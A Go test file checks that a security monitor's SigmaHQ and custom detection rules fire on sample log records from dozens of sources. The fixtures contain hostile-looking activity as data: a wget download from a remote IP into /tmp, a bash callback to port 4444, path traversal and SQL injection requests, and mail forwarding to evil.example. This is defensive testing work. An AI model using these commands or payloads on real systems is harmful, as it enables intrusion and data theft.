package detect_test

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/security-monitor/secmon/detect"
	"github.com/security-monitor/secmon/ingest"
	"github.com/security-monitor/secmon/monitor"
)

// sourceCase is a record as a source's shippers send it, and the file of the rule of
// SigmaHQ that must fire on it.
type sourceCase struct{ source, rule, record string }

// sourceCases are of every source that SigmaHQ has rules for, each by every way in
// which it comes. Windows has the labelled events.
var sourceCases = []sourceCase{
	{"auditd as JSON", "lnx_auditd_data_compressed", `{"type":"EXECVE","msg":"audit(1777887000.1:9):","argc":"3","a0":"tar","a1":"-czf","a2":"x"}`},
	{"auditd, a line", "lnx_auditd_load_module_insmod", `{"message":"type=SYSCALL msg=audit(1777887000.1:9): arch=c000003e syscall=313 success=yes exit=0 comm=\"insmod\" exe=\"/usr/bin/kmod\" key=\"modules\""}`},
	{"auditd in the journal", "lnx_auditd_data_compressed", `{"_TRANSPORT":"audit","_AUDIT_TYPE_NAME":"EXECVE","_HOSTNAME":"db-1","MESSAGE":"EXECVE argc=2 a0=\"zip\" a1=\"x\""}`},
	{"auditd by syslog", "lnx_auditd_data_compressed", `{"message":"<13>May  4 09:30:00 db-1 audispd: node=db-1 type=EXECVE msg=audit(1777887000.1:9): argc=2 a0=\"zip\" a1=\"x\""}`},
	{"auditd by LAUREL, processes", "proc_creation_lnx_wget_download_suspicious_directory", `{"ID":"1777887000.1:9","SYSCALL":{"exe":"/usr/bin/wget","comm":"wget","SYSCALL":"execve"},"EXECVE":{"argc":4,"ARGV":["wget","-O","/tmp/x","http://203.0.113.9/x"]}}`},
	{"auditd by LAUREL, audit", "lnx_auditd_data_compressed", `{"ID":"1777887000.1:9","SYSCALL":{"exe":"/usr/bin/zip","comm":"zip","SYSCALL":"execve"},"EXECVE":{"argc":2,"ARGV":["zip","x"]}}`},
	{"sshd in the journal", "lnx_sshd_susp_ssh", `{"_HOSTNAME":"web-1","SYSLOG_IDENTIFIER":"sshd-session","MESSAGE":"Corrupted MAC on input. [preauth]"}`},
	{"sshd, RFC 3164", "lnx_sshd_susp_ssh", `{"message":"<38>May  4 09:30:01 web-1 sshd[812]: error: key_read: unknown or unsupported key type"}`},
	{"sshd, RFC 5424", "lnx_sshd_exploit_cve_2018_15473", `{"message":"<38>1 2026-05-04T09:30:01Z web-1 sshd 812 - - error: buffer_get_ret: trying to get more bytes 1907 than in buffer 308 [preauth]"}`},
	{"sudo in the journal", "lnx_sudo_exploit_cve_2019_14287", `{"_HOSTNAME":"web-1","SYSLOG_IDENTIFIER":"sudo","MESSAGE":"bob : TTY=pts/0 ; PWD=/home/bob ; USER=#-1 ; COMMAND=/usr/bin/id"}`},
	{"sudo, a line", "lnx_sudo_exploit_cve_2019_14287", `{"log":"May  4 09:30:01 web-1 sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=#4294967295 ; COMMAND=/usr/bin/id"}`},
	{"systemd in the journal", "lnx_syslog_security_tools_disabling_syslog", `{"_HOSTNAME":"web-1","SYSLOG_IDENTIFIER":"systemd","UNIT":"firewalld.service","MESSAGE":"Stopping firewalld.service - firewalld - dynamic firewall daemon..."}`},
	{"systemd, a line", "lnx_syslog_security_tools_disabling_syslog", `{"message":"May  4 09:30:01 web-1 systemd[1]: Stopping iptables.service - IPv4 firewall with iptables..."}`},
	{"named, a line", "lnx_syslog_susp_named", `{"message":"May  4 09:30:01 ns-1 named[9]: client 203.0.113.9#53 denied AXFR from 203.0.113.9 for example.com"}`},
	{"cron", "lnx_cron_crontab_file_modification", `{"message":"May  4 09:30:01 web-1 crontab[99]: (root) REPLACE (root)"}`},
	{"pkexec", "lnx_auth_exploit_cve_2021_4034", `{"message":"May  4 09:30:01 web-1 pkexec[99]: bob: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/home/bob] [COMMAND=/usr/bin/pkexec]"}`},
	{"CloudTrail", "aws_cloudtrail_guardduty_detector_deleted", `{"eventVersion":"1.08","userIdentity":{"type":"IAMUser"},"eventTime":"2026-05-04T09:31:00Z","eventSource":"guardduty.amazonaws.com","eventName":"DeleteDetector"}`},
	{"CloudTrail by EventBridge", "aws_cloudtrail_bucket_deleted", `{"detail-type":"AWS API Call via CloudTrail","source":"aws.s3","detail":{"eventVersion":"1.08","userIdentity":{"type":"IAMUser"},"eventSource":"s3.amazonaws.com","eventName":"DeleteBucket"}}`},
	{"CloudTrail, what stands anywhere in the parameters", "aws_disable_bucket_versioning", `{"eventVersion":"1.08","userIdentity":{"type":"IAMUser"},"eventSource":"s3.amazonaws.com","eventName":"PutBucketVersioning","requestParameters":{"VersioningConfiguration":{"Status":"Suspended"}}}`},
	{"VPC flow log, a line", "net_firewall_cleartext_protocols", `{"message":"2 123456789010 eni-1235b8ca123456789 172.31.16.139 172.31.16.21 20641 23 6 20 4249 1777887000 1777887060 ACCEPT OK"}`},
	{"VPC flow log as JSON", "net_firewall_cleartext_protocols", `{"interface_id":"eni-1","srcaddr":"10.0.0.1","dstaddr":"10.0.0.2","srcport":4000,"dstport":3306,"protocol":6,"action":"ACCEPT","log_status":"OK","start":1777887000}`},
	{"Kubernetes audit", "kubernetes_audit_secrets_modified", `{"kind":"Event","apiVersion":"audit.k8s.io/v1","verb":"delete","objectRef":{"resource":"secrets","name":"x"},"responseStatus":{"code":200}}`},
	{"Kubernetes audit, of the pod's specification", "kubernetes_audit_hostpath_mount", `{"kind":"Event","apiVersion":"audit.k8s.io/v1","verb":"create","objectRef":{"resource":"pods"},"requestObject":{"spec":{"volumes":[{"hostPath":{"path":"/"}}]}}}`},
	{"Kubernetes audit, capabilities", "kubernetes_audit_privileged_pod_creation", `{"kind":"Event","apiVersion":"audit.k8s.io/v1","verb":"create","objectRef":{"resource":"pods"},"requestObject":{"spec":{"containers":[{"securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}}]}}}`},
	{"Suricata, DNS version 3", "net_dns_external_service_interaction_domains", `{"timestamp":"2026-05-04T09:30:00+0000","flow_id":1,"event_type":"dns","src_ip":"10.0.0.1","dns":{"version":3,"type":"request","queries":[{"rrname":"x.interact.sh","rrtype":"A"}]}}`},
	{"Suricata, DNS version 2", "net_dns_susp_telegram_api", `{"timestamp":"2026-05-04T09:30:00+0000","flow_id":1,"event_type":"dns","dns":{"type":"query","rrname":"api.telegram.org"}}`},
	{"Suricata, HTTP", "proxy_ua_malware", `{"timestamp":"2026-05-04T09:30:00+0000","flow_id":1,"event_type":"http","http":{"hostname":"a.example","url":"/","http_user_agent":"HttpBrowser/1.0","http_method":"GET"}}`},
	{"Zeek, DNS", "zeek_dns_mining_pools", `{"_path":"dns","ts":1777887000.5,"uid":"C1","id.orig_h":"10.0.0.1","id.resp_h":"10.0.0.2","id.resp_p":53,"query":"eu.minexmr.com","qtype_name":"A"}`},
	{"Zeek, DNS by the rules for every resolver", "net_dns_external_service_interaction_domains", `{"_path":"dns","ts":1777887000.5,"uid":"C1","id.orig_h":"10.0.0.1","query":"x.interact.sh"}`},
	{"Zeek without its log's name", "zeek_smb_converted_win_impacket_secretdump", `{"ts":1777887000.5,"uid":"C1","id.orig_h":"10.0.0.1","id.resp_h":"10.0.0.2","action":"SMB::FILE_OPEN","path":"\\\\dc-1\\ADMIN$","name":"SYSTEM32\\abc.tmp"}`},
	{"Zeek, RPC", "zeek_dce_rpc_potential_petit_potam", `{"ts":1777887000.5,"uid":"C1","id.orig_h":"10.0.0.1","endpoint":"efsrpc","operation":"EfsRpcOpenFileRaw"}`},
	{"Zeek, HTTP by the rules for proxies", "proxy_ua_malware", `{"_path":"http","ts":1777887000.5,"uid":"C1","id.orig_h":"10.0.0.1","method":"GET","host":"a.example","uri":"/","user_agent":"backdoorbot"}`},
	{"Zeek, TSV", "zeek_default_cobalt_strike_certificate", "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tx509\n#open\t2026-05-04-09-30-00\n#fields\tts\tfingerprint\tcertificate.serial\tsan.dns\n#types\ttime\tstring\tstring\tvector[string]\n1777887000.5\tab\t8BB00EE\t(empty)\n#close\t2026-05-04-10-00-00\n"},
	{"nginx, a line", "web_cve_2019_19781_citrix_exploit", `{"log":"203.0.113.20 - - [04/May/2026:09:42:00 +0000] \"GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\" 200 51 \"-\" \"curl/8\""}`},
	{"nginx as JSON", "web_path_traversal_exploitation_attempt", `{"remote_addr":"203.0.113.20","status":"200","request":"GET /x?f=../../../etc/passwd HTTP/1.1","http_user_agent":"curl/8"}`},
	{"nginx by syslog", "web_source_code_enumeration", `{"message":"<190>May  4 09:42:00 web-1 nginx: 203.0.113.20 - - [04/May/2026:09:42:00 +0000] \"GET /.git/config HTTP/1.1\" 200 51 \"-\" \"curl/8\""}`},
	{"Apache, a line with its virtual host", "web_sql_injection_in_access_logs", `{"message":"www.example:80 203.0.113.20 - - [04/May/2026:09:42:00 +0000] \"GET /x.php?id=1%20UNION%20SELECT%201 HTTP/1.1\" 200 51 \"-\" \"curl/8\"","log":{"file":{"path":"/var/log/apache2/access.log"}}}`},
	{"osquery, processes", "proc_creation_lnx_wget_download_suspicious_directory", `{"name":"process_events","hostIdentifier":"ws-9","unixTime":1777887000,"columns":{"path":"/usr/bin/wget","cmdline":"wget -O /tmp/x http://203.0.113.9/x","time":"1777886999"},"action":"added"}`},
	{"osquery, connections", "net_connection_lnx_back_connect_shell_dev", `{"name":"pack_x_socket_events","hostIdentifier":"ws-9","unixTime":1777887000,"decorations":{"platform":"linux"},"columns":{"path":"/bin/bash","remote_address":"203.0.113.9","remote_port":"4444","time":"1777886999"},"action":"added"}`},
	{"osquery, files", "file_event_lnx_susp_shell_script_under_profile_directory", `{"name":"file_events","hostIdentifier":"ws-9","unixTime":1777887000,"columns":{"target_path":"/etc/profile.d/x.sh","action":"CREATED","time":"1777886999"},"action":"added"}`},
	{"osquery, a snapshot of one row", "proc_creation_lnx_wget_download_suspicious_directory", `{"name":"process_events","hostIdentifier":"ws-9","unixTime":1777887000,"snapshot":[{"path":"/usr/bin/wget","cmdline":"wget -O /tmp/x http://203.0.113.9/x","time":"2"}],"action":"snapshot"}`},
	{"clamscan", "lnx_clamav_relevant_message", `{"message":"/tmp/x: Unix.Trojan.Mirai-5607483-0 FOUND"}`},
	{"clamd's log by the rules for every scanner", "av_password_dumper", `{"log":"Mon May  4 09:30:00 2026 -> /srv/x.exe: Win.Tool.Mimikatz-1(44d88612fea8a8f36de82e1278abb02f:68) FOUND"}`},
	{"clamd in the journal", "lnx_clamav_relevant_message", `{"_HOSTNAME":"files-1","SYSLOG_IDENTIFIER":"clamd","MESSAGE":"/srv/x.php: Php.Webshell.C99-1 FOUND"}`},
	{"Auditbeat", "proc_creation_lnx_wget_download_suspicious_directory", `{"@timestamp":"2026-05-04T09:30:00Z","event":{"category":["process"],"type":["start"]},"host":{"os":{"platform":"ubuntu","type":"linux"}},"process":{"executable":"/usr/bin/wget","args":["wget","-O","/tmp/x","http://203.0.113.9/x"]}}`},
	{"Azure activity", "azure_keyvault_modified_or_deleted", `{"time":"2026-05-04T09:30:00Z","resourceId":"/SUBSCRIPTIONS/0A1/RESOURCEGROUPS/WEB/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/KV-1","operationName":"MICROSOFT.KEYVAULT/VAULTS/DELETE","category":"Administrative","resultType":"Success","callerIpAddress":"203.0.113.9","identity":{"claims":{"name":"Ana"}},"level":"Information","properties":{"message":"Microsoft.KeyVault/vaults/delete"}}`},
	{"Azure activity, a service's own names", "azure_aadhybridhealth_adfs_service_delete", `{"time":"2026-05-04T09:30:00Z","resourceId":"/providers/Microsoft.ADHybridHealthService/services/AdFederationService-x","operationName":"Microsoft.ADHybridHealthService/services/delete","category":"Administrative","resultType":"Success","callerIpAddress":"203.0.113.9","identity":{"claims":{"name":"Ana"}},"level":"Information","properties":{"message":"Microsoft.KeyVault/vaults/delete"}}`},
	{"Entra's audit log", "azure_guest_to_member", `{"time":"2026-05-04T09:30:00Z","resourceId":"/tenants/4c2/providers/Microsoft.aadiam","operationName":"Update user","category":"AuditLogs","tenantId":"4c2","resultType":"","properties":{"category":"UserManagement","activityDisplayName":"Update user","activityDateTime":"2026-05-04T09:29:59Z","loggedByService":"Core Directory","result":"success","initiatedBy":{"user":{"userPrincipalName":"ana@corp.example"}},"targetResources":[{"type":"User","displayName":"bob","modifiedProperties":[{"displayName":"UserType","oldValue":"[\"Guest\"]","newValue":"[\"Member\"]"}]}]}}`},
	{"Entra's audit log by Graph", "azure_ad_user_added_to_admin_role", `{"id":"1","category":"UserManagement","activityDisplayName":"Add member to role","loggedByService":"Core Directory","result":"success","activityDateTime":"2026-05-04T09:30:00Z","targetResources":[{"type":"Role","displayName":"Global Administrator"}]}`},
	{"Entra's sign-ins", "azure_account_lockout", `{"time":"2026-05-04T09:30:00Z","resourceId":"/tenants/4c2/providers/Microsoft.aadiam","operationName":"Sign-in activity","category":"SignInLogs","tenantId":"4c2","resultType":"50053","resultDescription":"User account is disabled. The account has been disabled by an administrator.","callerIpAddress":"203.0.113.9","properties":{"userPrincipalName":"bob@corp.example","appDisplayName":"Office 365","appId":"00b","authenticationProtocol":"deviceCode","authenticationRequirement":"singleFactorAuthentication","clientAppUsed":"IMAP","conditionalAccessStatus":"notApplied","deviceDetail":{"deviceId":"","trustType":"","isCompliant":false},"location":{"countryOrRegion":"NL"},"userAgent":"BAV2ROPC","status":{"errorCode":50057,"failureReason":"User account is disabled."},"riskState":"none","resourceDisplayName":"Microsoft Graph"}}`},
	{"Entra's sign-ins, the protocol", "azure_app_device_code_authentication", `{"time":"2026-05-04T09:30:00Z","resourceId":"/tenants/4c2/providers/Microsoft.aadiam","operationName":"Sign-in activity","category":"SignInLogs","tenantId":"4c2","resultType":"50057","resultDescription":"User account is disabled. The account has been disabled by an administrator.","callerIpAddress":"203.0.113.9","properties":{"userPrincipalName":"bob@corp.example","appDisplayName":"Office 365","appId":"00b","authenticationProtocol":"deviceCode","authenticationRequirement":"singleFactorAuthentication","clientAppUsed":"IMAP","conditionalAccessStatus":"notApplied","deviceDetail":{"deviceId":"","trustType":"","isCompliant":false},"location":{"countryOrRegion":"NL"},"userAgent":"BAV2ROPC","status":{"errorCode":50057,"failureReason":"User account is disabled."},"riskState":"none","resourceDisplayName":"Microsoft Graph"}}`},
	{"Entra's sign-ins by Log Analytics", "azure_ad_only_single_factor_auth_required", `{"TimeGenerated":"2026-05-04T09:30:00Z","Type":"SigninLogs","OperationName":"Sign-in activity","ResultType":"0","UserPrincipalName":"bob@corp.example","IPAddress":"203.0.113.9","ConditionalAccessStatus":"success","UserAgent":"axios/1.7","AuthenticationRequirement":"singleFactorAuthentication"}`},
	{"Entra's risk detections by Graph", "azure_identity_protection_atypical_travel", `{"id":"6a5","riskEventType":"unlikelyTravel","riskState":"atRisk","riskLevel":"high","activityDateTime":"2026-05-04T09:30:00Z","ipAddress":"203.0.113.9","userPrincipalName":"bob@corp.example","location":{"city":"Oslo","countryOrRegion":"NO"}}`},
	{"Privileged Identity Management", "azure_pim_too_many_global_admins", `{"@odata.type":"#microsoft.graph.tooManyGlobalAdminsAssignedToTenantAlertIncident","id":"8f3","createdDateTime":"2026-05-04T09:30:00Z","assigneeUserPrincipalName":"ana@corp.example"}`},
	{"Microsoft 365, Exchange by the rules for all", "microsoft365_susp_inbox_rule_creation_or_update_activity", `{"CreationTime":"2026-05-04T09:30:00","Id":"3d1","Operation":"New-InboxRule","OrganizationId":"4c2","RecordType":1,"ResultStatus":"True","UserId":"bob@corp.example","Workload":"Exchange","ClientIP":"203.0.113.9:40022","Parameters":[{"Name":"ForwardAsAttachmentTo","Value":"x@evil.example"},{"Name":"DeleteMessage","Value":"True"}]}`},
	{"Microsoft 365, an alert", "microsoft365_user_restricted_from_sending_email", `{"CreationTime":"2026-05-04T09:30:00","Id":"3d2","Operation":"AlertTriggered","RecordType":40,"ResultStatus":"Succeeded","UserId":"SecurityComplianceAlerts","Workload":"SecurityComplianceCenter","Name":"User restricted from sending email","Severity":"High","Status":"Active","AlertType":"System"}`},
	{"Microsoft 365, a detection", "microsoft365_from_susp_ip_addresses", `{"CreationTime":"2026-05-04T09:30:00","Id":"3d2","Operation":"AlertTriggered","RecordType":40,"ResultStatus":"Succeeded","UserId":"SecurityComplianceAlerts","Workload":"SecurityComplianceCenter","Name":"Activity from suspicious IP addresses","Severity":"High","Status":"Active","AlertType":"System"}`},
	{"Microsoft 365, a federated domain", "microsoft365_new_federated_domain_added_exchange", `{"CreationTime":"2026-05-04T09:30:00","Id":"3d1","Operation":"Add-FederatedDomain","OrganizationId":"4c2","RecordType":1,"ResultStatus":"True","UserId":"bob@corp.example","Workload":"Exchange","ClientIP":"203.0.113.9:40022","Parameters":[{"Name":"ForwardAsAttachmentTo","Value":"x@evil.example"},{"Name":"DeleteMessage","Value":"True"}]}`},
	{"Okta", "okta_user_session_start_via_anonymised_proxy", `{"actor":{"id":"00u","type":"User","alternateId":"ana@corp.example","displayName":"Ana"},"client":{"ipAddress":"203.0.113.9"},"debugContext":{"debugData":{"requestUri":"/api/v1/users","behaviors":"{New Geo-Location=POSITIVE}"}},"displayMessage":"User login to Okta","eventType":"user.session.start","legacyEventType":"core.user_auth.login_failed","outcome":{"result":"FAILURE","reason":"INVALID_CREDENTIALS"},"published":"2026-05-04T09:30:00.123Z","securityContext":{"isProxy":true},"severity":"WARN","uuid":"da7","target":[{"displayName":"Okta Admin Console"}]}`},
	{"GitHub", "github_outside_collaborator_detected", `{"@timestamp":1777887000123,"_document_id":"xyz","action":"org.remove_outside_collaborator","actor":"ana","actor_ip":"203.0.113.9","actor_location":{"country_code":"NL"},"created_at":1777887000123,"org":"corp","repo":"corp/web"}`},
	{"Google Cloud", "gcp_access_policy_deleted", `{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"accesscontextmanager.googleapis.com","methodName":"google.identity.accesscontextmanager.v1.AccessContextManager.DeleteAccessPolicy","authenticationInfo":{"principalEmail":"ana@corp.example"},"requestMetadata":{"callerIp":"203.0.113.9"},"authorizationInfo":[{"permission":"accesscontextmanager.accessPolicies.delete","granted":true}],"status":{}},"insertId":"k1","resource":{"type":"audited_resource"},"timestamp":"2026-05-04T09:30:00.5Z","severity":"NOTICE","logName":"organizations/1/logs/cloudaudit.googleapis.com%2Factivity"}`},
	{"Google Cloud, a firewall", "gcp_firewall_rule_modified_or_deleted", `{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"accesscontextmanager.googleapis.com","methodName":"v1.Compute.Firewalls.Delete","authenticationInfo":{"principalEmail":"ana@corp.example"},"requestMetadata":{"callerIp":"203.0.113.9"},"authorizationInfo":[{"permission":"accesscontextmanager.accessPolicies.delete","granted":true}],"status":{}},"insertId":"k1","resource":{"type":"audited_resource"},"timestamp":"2026-05-04T09:30:00.5Z","severity":"NOTICE","logName":"organizations/1/logs/cloudaudit.googleapis.com%2Factivity"}`},
	{"Workspace by Google Cloud", "gcp_gworkspace_suspicious_login", `{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"login.googleapis.com","methodName":"google.login.LoginService.suspiciousLogin","authenticationInfo":{"principalEmail":"bob@corp.example"},"requestMetadata":{"callerIp":"203.0.113.9"},"metadata":{"event":[{"eventName":"suspicious_login","eventType":"login","parameter":[{"name":"login_type","value":"google_password"}]}]}},"timestamp":"2026-05-04T09:30:00Z","logName":"organizations/1/logs/cloudaudit.googleapis.com%2Fdata_access"}`},
	{"Workspace by the Reports API", "gcp_gworkspace_application_access_levels_modified", `{"kind":"admin#reports#activity","id":{"time":"2026-05-04T09:30:00.000Z","uniqueQualifier":"1","applicationName":"admin","customerId":"C1"},"actor":{"email":"ana@corp.example"},"ipAddress":"203.0.113.9","events":[{"type":"APPLICATION_SETTINGS","name":"CHANGE_APPLICATION_SETTING","parameters":[{"name":"SETTING_NAME","value":"ContextAwareAccess"},{"name":"NEW_VALUE","value":"false"}]}]}`},
	{"OneLogin", "onelogin_assumed_another_user", `{"id":1,"created_at":"2026-05-04T09:30:00.000Z","account_id":7,"event_type_id":3,"user_name":"bob","actor_user_name":"ana","ipaddr":"203.0.113.9"}`},
	{"Bitbucket", "bitbucket_audit_user_login_failure_via_ssh", `{"affectedObjects":[],"auditType":{"action":"User login failed(SSH)","category":"Authentication","level":"ADVANCED"},"author":{"id":"2","name":"bob","type":"normal"},"source":"203.0.113.9","system":"https://git.corp.example","node":"git-1","timestamp":{"epochSecond":1777887000,"nano":5000000},"version":"1.0"}`},
	{"Duo", "cisco_duo_mfa_bypass", `{"txid":"340","event_type":"authentication","factor":"not_available","reason":"bypass_user","result":"success","isotimestamp":"2026-05-04T09:30:00.000000+00:00","timestamp":1777887000,"user":{"key":"DU","name":"bob"},"access_device":{"ip":"203.0.113.9"},"application":{"name":"VPN"}}`},
	{"OpenCanary", "opencanary_ssh_login_attempt", `{"dst_host":"10.0.0.9","dst_port":22,"local_time":"2026-05-04 09:30:00.123456","logdata":{"USERNAME":"root","PASSWORD":"x"},"logtype":4002,"node_id":"canary-1","src_host":"203.0.113.9","src_port":40022,"utc_time":"2026-05-04 09:30:00.123456"}`},
	{"eslogger, processes", "proc_creation_macos_applescript", `{"schema_version":1,"event_type":9,"time":"2026-05-04T09:30:00.123456789Z","process":{"executable":{"path":"/bin/zsh"},"ppid":400,"audit_token":{"pid":812,"euid":501}},"event":{"exec":{"args":["osascript","-e","display dialog"],"cwd":{"path":"/Users/ana"},"target":{"executable":{"path":"/usr/bin/osascript"},"ppid":400,"audit_token":{"pid":812,"euid":501}}}}}`},
	{"eslogger, files", "file_event_macos_emond_launch_daemon", `{"schema_version":1,"event_type":13,"time":"2026-05-04T09:30:00Z","process":{"executable":{"path":"/usr/bin/curl"},"audit_token":{"pid":812}},"event":{"create":{"destination_type":1,"destination":{"new_path":{"dir":{"path":"/private/etc/emond.d/rules"},"filename":"x.plist"}}}}}`},
	{"Squid", "proxy_telegram_api", `{"message":"1777887000.123     45 10.0.0.5 TCP_MISS/200 5120 POST http://api.telegram.org/x - HIER_DIRECT/203.0.113.9 application/octet-stream","host":{"name":"proxy-1"}}`},
	{"FortiGate, an event", "fortinet_fortigate_new_admin", `{"message":"<190>date=2026-05-04 time=09:30:00 devname=\"fw-1\" devid=\"FG100\" logid=\"0100044547\" type=\"event\" subtype=\"system\" level=\"information\" vd=\"root\" logdesc=\"Object attribute configured\" user=\"admin\" ui=\"GUI(203.0.113.9)\" action=\"Add\" cfgpath=\"system.admin\" cfgobj=\"x\" msg=\"Add system.admin x\""}`},
	{"FortiGate, traffic", "net_firewall_cleartext_protocols", `{"message":"date=2026-05-04 time=09:30:00 devname=\"fw-1\" devid=\"FG100\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" srcip=10.0.0.5 srcport=4000 dstip=203.0.113.9 dstport=23 proto=6 action=\"accept\""}`},
	{"Cisco IOS, a command", "cisco_cli_disable_logging", `{"message":"<189>45: *May  4 09:30:00.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:ana  logged command:no logging 10.0.0.9","host":"sw-1","@timestamp":"2026-05-04T09:30:00Z"}`},
	{"Cisco IOS, BGP", "cisco_bgp_md5_auth_failed", `{"message":"<187>May  4 09:30:00 rtr-1 46: %IP-TCP-3-BADAUTH: No MD5 digest from 203.0.113.9:179 to 10.0.0.1:40022"}`},
	{"Defender by the rules for every scanner", "av_password_dumper", `{"Event":{"System":{"Provider":{"Name":"Microsoft-Windows-Windows Defender"},"EventID":1116,"Channel":"Microsoft-Windows-Windows Defender/Operational","Computer":"ws-3","TimeCreated":{"SystemTime":"2026-05-04T09:30:00Z"}},"EventData":{"Threat Name":"HackTool:Win32/Mimikatz.D","Severity Name":"Severe","Path":"file:_C:\\Users\\bob\\x.exe","Detection User":"CORP\\bob"}}}`},
}

func TestRulesOfSigmaHQFireOnEverySource(t *testing.T) {
	s := activeSide(t)
	for _, c := range sourceCases {
		t.Run(c.source, func(t *testing.T) {
			var hits []string
			for _, e := range bodyEvents(t, c.record) {
				for _, r := range s.hits(t, &e.rec) {
					hits = append(hits, s.names[r])
				}
			}
			if !slices.ContainsFunc(hits, func(name string) bool { return strings.Contains(name, "/"+c.rule) }) {
				t.Errorf("%s does not fire; these do: %v", c.rule, hits)
			}
		})
	}
}

// bodyEvents reads a body as /api/ingest does.
func bodyEvents(t testing.TB, body string) []*logEvent {
	t.Helper()
	var list []*logEvent
	err := ingest.Split(strings.NewReader(body), ingest.DefaultLimits, func(line int, raw []byte, problem *ingest.Rejection) error {
		if problem != nil {
			t.Fatalf("line %d: %s", line, problem.Message)
		}
		list = append(list, normalised(t, "", bytes.Clone(raw)))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return list
}

// SigmaHQ has no rules for these: the repository's own, and the rule that anybody would
// write by docs/ingest.md.
func TestRulesFireOnSourcesWithoutRulesOfSigmaHQ(t *testing.T) {
	pack := func(name string) string {
		text, err := os.ReadFile(filepath.Join("..", "rulepack", "rules", name+".yml"))
		if err != nil {
			t.Fatal(err)
		}
		return string(text)
	}
	own := func(source, detection string) string {
		return "title: t\nid: 6f0b7a1e-52f3-4c0e-9a3e-1f7d2c6b8a90\nlogsource: {" + source + "}\ndetection:\n  selection: {" + detection + "}\n  condition: selection\n"
	}
	for _, c := range []sourceCase{
		{"GuardDuty", own("product: aws, service: guardduty", "type|startswith: 'UnauthorizedAccess:', src_ip: 198.51.100.4"), `{"type":"UnauthorizedAccess:EC2/SSHBruteForce","severity":5,"resource":{"resourceType":"Instance"},"service":{"serviceName":"guardduty","action":{"networkConnectionAction":{"remoteIpDetails":{"ipAddressV4":"198.51.100.4"}}}}}`},
		{"Falco", own("product: falco, service: syscall", "priority: Critical, CommandLine|contains: ' -i'"), `{"rule":"Shell","priority":"Critical","source":"syscall","time":"2026-05-04T09:30:00Z","output":"x","output_fields":{"proc.cmdline":"bash -i"}}`},
		{"journald, who and from where", own("product: linux, service: sshd", "User: root, SourceIp|cidr: 203.0.113.0/24"), `{"SYSLOG_IDENTIFIER":"sshd","_HOSTNAME":"web-1","MESSAGE":"Failed password for root from 203.0.113.5 port 40022 ssh2"}`},
		{"PAM", own("product: linux", "pam_message: authentication failure, pam_rhost: 203.0.113.5"), `{"SYSLOG_IDENTIFIER":"sshd","_HOSTNAME":"web-1","MESSAGE":"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.5  user=root"}`},
		{"report of malware", pack("report_malware"), `{"report":"malware","time":"2026-05-04T09:30:00Z","host":"ws-bob","file_path":"C:\\x.exe","score":94,"status":"detected"}`},
		{"report of web activity", pack("report_malicious_site"), `{"report":"web_activity","time":"2026-05-04T09:30:00Z","host":"ws-bob","domain":"login.example","score":88,"category":"phishing","action":"allowed"}`},
		{"report of the network", pack("report_backdoor_port"), `{"report":"network","time":"2026-05-04T09:30:00Z","host":"db-1","port":4444,"open":true,"connection_count":1}`},
	} {
		t.Run(c.source, func(t *testing.T) {
			rule, err := detect.Parse([]byte(c.rule))
			if err != nil {
				t.Fatal(err)
			}
			var about monitor.Event
			var rec monitor.Record
			if err := ingest.NewNormaliser().Normalise([]byte(c.record), time.Unix(1_790_000_000, 0), &about, &rec); err != nil {
				t.Fatal(err)
			}
			if hits := detect.Compile([]*monitor.Rule{rule}).Match(&rec, nil); len(hits) != 1 {
				t.Errorf("the rule does not fire on\n%s", showRecord(&rec))
			}
		})
	}
}
